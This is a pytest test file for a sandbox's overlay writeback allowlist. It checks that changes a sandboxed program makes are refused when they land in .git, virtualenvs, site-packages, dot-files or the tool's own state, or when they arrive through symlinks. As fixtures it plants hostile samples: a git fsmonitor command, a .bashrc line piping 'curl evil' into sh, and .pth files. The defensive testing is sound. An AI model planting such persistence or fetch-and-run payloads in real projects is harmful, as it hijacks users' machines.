"""The allowlist that applies a program's changes (an overlay's upper layer) to the real
working directory: sandbox/writeback.py, on upper layers made by hand the way overlayfs
makes them (whiteouts are 0/0 character devices, a directory made again over a deleted
one is marked opaque). No process is started: these run in the fast lane."""

from __future__ import annotations

import os
import stat
import time
from pathlib import Path

import pytest

from oci_interpreter.agent.feedback import format_result
from oci_interpreter.agent.prompts import DEFAULT
from oci_interpreter.sandbox.layers import Layers
from oci_interpreter.sandbox.limits import ExecResult
from oci_interpreter.sandbox.workspace import Changes
from oci_interpreter.sandbox.writeback import MAX_DEPTH, Rules, apply_upper


@pytest.fixture
def dirs(tmp_path: Path) -> tuple[Path, Path]:
    real = tmp_path / "project"
    upper = tmp_path / "upper"
    real.mkdir()
    upper.mkdir()
    return real, upper


def whiteout(path: Path) -> None:
    try:
        os.mknod(path, stat.S_IFCHR | 0o000, os.makedev(0, 0))
    except PermissionError:
        pytest.skip("this file system does not let this user make a whiteout")


def opaque(path: Path) -> None:
    path.mkdir(parents=True, exist_ok=True)
    try:
        os.setxattr(path, "user.overlay.opaque", b"y")
    except OSError:
        pytest.skip("this file system has no user xattrs")


def apply(real: Path, upper: Path, *, since: int | None = None, move: bool = False,
          rules: Rules | None = None) -> Changes:
    return apply_upper(upper, real, rules or Rules(real), since_ns=since or time.time_ns(),
                       move=move)


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    return path


def refused_at(changes: Changes, path: Path) -> str | None:
    for line in changes.refused:
        where, _, why = line.partition(": ")
        if Path(where) == path:
            return why
    return None


def test_files_are_created_changed_and_deleted_by_content(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    write(real / "same.txt", "unchanged")
    write(real / "data.csv", "a,b\n")
    write(real / "Makefile", "test:\n\tpytest\n")
    write(real / "old.txt", "bye")
    since = time.time_ns()
    write(upper / "new.txt", "hello")
    write(upper / "sub" / "deep.txt", "deep")
    write(upper / "same.txt", "unchanged")  # copied up, content as it was
    write(upper / "data.csv", "a,b\n1,2\n")
    planted = write(upper / "Makefile", "test:\n\tevil!\n")  # same size...
    os.utime(planted, ns=(1, 1))  # ...and the mtime set back
    whiteout(upper / "old.txt")
    changes = apply(real, upper, since=since)
    assert set(changes.created) == {str(real / "new.txt"), str(real / "sub" / "deep.txt")}
    assert set(changes.modified) == {str(real / "data.csv"), str(real / "Makefile")}
    assert changes.deleted == (str(real / "old.txt"),)
    assert changes.refused == ()
    assert (real / "Makefile").read_text() == "test:\n\tevil!\n"
    assert (real / "Makefile").stat().st_mtime_ns > since  # a change is new, whatever it says
    assert not (real / "old.txt").exists()


@pytest.mark.parametrize("rel", [
    ".git/config", "vendor/lib/.git/hooks/post-checkout", ".git",
    "node_modules/.bin/jest", "node_modules/left-pad/index.js",
    ".tox/py311/lib/python3.11/site-packages/evil.pth",
    ".nox/tests/bin/python", ".venv/bin/activate", "venv/lib/x.pth",
    "lib/python3.11/site-packages/evil.pth", "__pycache__/app.cpython-311.pyc",
    "pkg/__pycache__/mod.cpython-311.pyc", ".hg/hgrc", ".svn/entries",
])
def test_nothing_is_written_where_it_could_run_later(dirs: tuple[Path, Path],
                                                     rel: str) -> None:
    real, upper = dirs
    write(upper / rel, "[core]\n\tfsmonitor = touch /tmp/pwned\n")
    changes = apply(real, upper)
    assert not (real / rel).exists()
    assert changes.created == () and changes.modified == ()
    assert changes.refused, changes
    first = Path(rel).parts
    for i in range(len(first), 0, -1):  # the refusal names the denied directory
        if refused_at(changes, real.joinpath(*first[:i])):
            break
    else:
        raise AssertionError(changes.refused)


def test_a_virtualenv_is_known_by_its_pyvenv_cfg_on_either_side(
        dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    write(real / "tools" / "pyvenv.cfg", "home = /usr/bin\n")
    write(upper / "tools" / "bin" / "python", "#!/bin/sh\nevil\n")
    write(upper / "env2" / "pyvenv.cfg", "home = /usr/bin\n")  # one the program made
    write(upper / "env2" / "lib" / "x.pth", "import os\n")
    changes = apply(real, upper, move=True)
    assert not (real / "tools" / "bin").exists() and not (real / "env2").exists()
    assert "virtualenv" in (refused_at(changes, real / "tools") or "")
    assert "virtualenv" in (refused_at(changes, real / "env2") or "")


def test_links_fifos_and_deep_directories_are_not_applied(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    os.symlink("/etc/passwd", upper / "link")
    os.mkfifo(upper / "pipe")
    deep = upper
    for _ in range(MAX_DEPTH + 5):
        deep = deep / "d"
    write(deep / "f.txt", "x")
    changes = apply(real, upper)
    assert not os.path.lexists(real / "link") and not os.path.lexists(real / "pipe")
    assert "symbolic link" in (refused_at(changes, real / "link") or "")
    assert "regular file" in (refused_at(changes, real / "pipe") or "")
    assert any("deeper than" in line for line in changes.refused)


def test_nothing_is_written_through_a_link_of_the_user_s(dirs: tuple[Path, Path],
                                                         tmp_path: Path) -> None:
    real, upper = dirs
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    os.symlink(elsewhere, real / "out")  # the user's link to a directory outside
    (upper / "out").mkdir()  # the program wrote into it (overlay: a directory, not opaque)
    write(upper / "out" / "x.txt", "x")
    changes = apply(real, upper)
    assert list(elsewhere.iterdir()) == []
    assert refused_at(changes, real / "out")
    assert os.path.islink(real / "out")


def test_a_link_the_program_replaced_by_a_directory(dirs: tuple[Path, Path],
                                                    tmp_path: Path) -> None:
    """``rm link; mkdir link``: the overlay marks the new directory opaque; the link is
    the program's to delete, and its target is never touched."""
    real, upper = dirs
    target = tmp_path / "gitdir"
    write(target / "config", "[core]\n")
    os.symlink(target, real / "data")
    opaque(upper / "data")
    write(upper / "data" / "rows.csv", "1\n")
    changes = apply(real, upper)
    assert (real / "data").is_dir() and not (real / "data").is_symlink()
    assert (real / "data" / "rows.csv").read_text() == "1\n"
    assert (target / "config").read_text() == "[core]\n"
    assert str(real / "data") in changes.deleted


def test_a_replaced_git_link_stays(dirs: tuple[Path, Path], tmp_path: Path) -> None:
    real, upper = dirs
    target = tmp_path / "real.git"
    target.mkdir()
    os.symlink(target, real / ".git")
    opaque(upper / ".git")
    write(upper / ".git" / "config", "[core]\n\tfsmonitor = evil\n")
    changes = apply(real, upper)
    assert os.readlink(real / ".git") == str(target)
    assert refused_at(changes, real / ".git")


def test_a_change_on_the_host_during_the_run_is_kept(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    since = time.time_ns()
    time.sleep(0.02)
    write(real / "notes.txt", "the user's edit")  # after the run started
    write(upper / "notes.txt", "the program's")
    changes = apply(real, upper, since=since)
    assert (real / "notes.txt").read_text() == "the user's edit"
    assert "changed outside" in (refused_at(changes, real / "notes.txt") or "")


def test_deleting_a_directory_keeps_what_may_not_be_deleted(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    write(real / "vendor" / "lib" / "a.py", "a")
    write(real / "vendor" / "lib" / ".git" / "HEAD", "ref: refs/heads/main\n")
    write(real / "vendor" / "b.py", "b")
    since = time.time_ns()
    whiteout(upper / "vendor")
    changes = apply(real, upper, since=since)
    assert (real / "vendor" / "lib" / ".git" / "HEAD").exists()
    assert not (real / "vendor" / "lib" / "a.py").exists()
    assert not (real / "vendor" / "b.py").exists()
    assert refused_at(changes, real / "vendor" / "lib" / ".git")


def test_a_directory_made_again_loses_what_was_not_put_back(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    write(real / "out" / "a.txt", "a")
    write(real / "out" / "b.txt", "b")
    since = time.time_ns()
    opaque(upper / "out")
    write(upper / "out" / "c.txt", "c")
    changes = apply(real, upper, since=since)
    assert sorted(p.name for p in (real / "out").iterdir()) == ["c.txt"]
    assert set(changes.deleted) == {str(real / "out" / "a.txt"), str(real / "out" / "b.txt")}


def test_oci_s_own_files_and_the_home_s_dot_files(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    write(upper / "state" / "config.toml", 'sandbox = "none"\n')
    write(upper / ".bashrc", "curl evil | sh\n")
    write(upper / "notes.txt", "fine")
    rules = Rules(real, own=(("state",),), home=True)
    changes = apply(real, upper, rules=rules)
    assert not (real / "state").exists() and not (real / ".bashrc").exists()
    assert (real / "notes.txt").read_text() == "fine"
    assert refused_at(changes, real / "state") == "oci's own files"
    assert "home" in (refused_at(changes, real / ".bashrc") or "")


def test_a_new_directory_moves_whole_and_lists_every_file(dirs: tuple[Path, Path]) -> None:
    real, upper = dirs
    for i in range(50):
        write(upper / "results" / f"{i}.csv", str(i))
    changes = apply(real, upper, move=True)
    assert len(changes.created) == 50
    assert not (upper / "results").exists()  # renamed, not copied
    assert (real / "results" / "7.csv").read_text() == "7"


def test_the_layers_live_outside_the_working_directory(tmp_path: Path,
                                                       oci_home: Path) -> None:
    layers = Layers.create(tmp_path / "elsewhere")
    assert isinstance(layers, Layers)
    ident = layers.new()
    assert layers.upper(ident).is_dir() and not layers.upper(ident).is_symlink()
    layers.close()
    assert not layers.root.exists()
    # a working directory that holds oci's data directory: the layers go elsewhere
    around = Layers.create(oci_home)
    assert isinstance(around, Layers) and oci_home not in around.root.parents
    around.close()


def test_the_model_is_told_what_was_not_kept() -> None:
    result = ExecResult(exit_code=0, stdout="done\n", stderr="", duration_s=0.1, refused=(
        "/w/.git: version-control metadata: its config and hooks run commands",
        "/w/venv: a virtualenv: its files run whenever its Python starts"))
    text = format_result(result, DEFAULT).text
    assert "Not kept in the working directory" in text
    assert ".git (version-control metadata)" in text and "venv (a virtualenv)" in text
